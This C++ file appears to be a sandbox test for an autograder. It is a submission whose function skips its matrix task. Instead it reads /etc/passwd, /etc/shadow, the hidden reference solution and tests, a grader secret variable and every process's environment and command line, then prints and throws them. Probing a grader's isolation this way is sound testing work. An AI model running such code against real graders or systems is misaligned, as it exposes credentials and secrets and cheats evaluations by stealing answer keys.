// Reads what it must not see and prints it on stdout and stderr, then throws it: /etc/passwd,
// the reference solution and the tests (@SOURCE@/...), its environment and that of every
// process it can see (/proc/*/environ, where a marker variable of the grader's, @SECRET_NAME@,
// would show), the command lines of /proc.
#include <filesystem>
#include <fstream>
#include <iostream>
#include <iterator>
#include <stdexcept>
#include <string>

#include "common/matrix.hpp"

extern char** environ;

namespace {

std::string slurp(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) return "(cannot read " + path + ")\n";
  return std::string((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>()) + "\n";
}

}  // namespace

dlc::Matrix dlc_attack(const dlc::Matrix& z) {
  namespace fs = std::filesystem;
  std::string all;
  for (const char* path :
       {"/etc/passwd", "/etc/shadow", "@SOURCE@/solutions/week2/logistic_regression.cpp",
        "@SOURCE@/tests/week2/test_logistic_regression.cpp",
        "../solutions/week2/logistic_regression.cpp"})
    all += slurp(path);
  for (char** e = environ; e != nullptr && *e != nullptr; ++e) all += std::string(*e) + "\n";
  if (const char* secret = std::getenv("@SECRET_NAME@")) all += std::string(secret) + "\n";
  std::error_code ec;
  for (auto it = fs::directory_iterator("/proc", ec); !ec && it != fs::directory_iterator();
       it.increment(ec)) {
    std::string env = slurp((it->path() / "environ").string());
    for (char& c : env)
      if (c == '\0') c = '\n';
    all += env;
    std::string cmd = slurp((it->path() / "cmdline").string());
    for (char& c : cmd)
      if (c == '\0') c = ' ';
    all += cmd;
  }
  std::cout << all << std::flush;
  std::cerr << all << std::flush;
  throw std::runtime_error("secrets:\n" + all);
  return z;
}
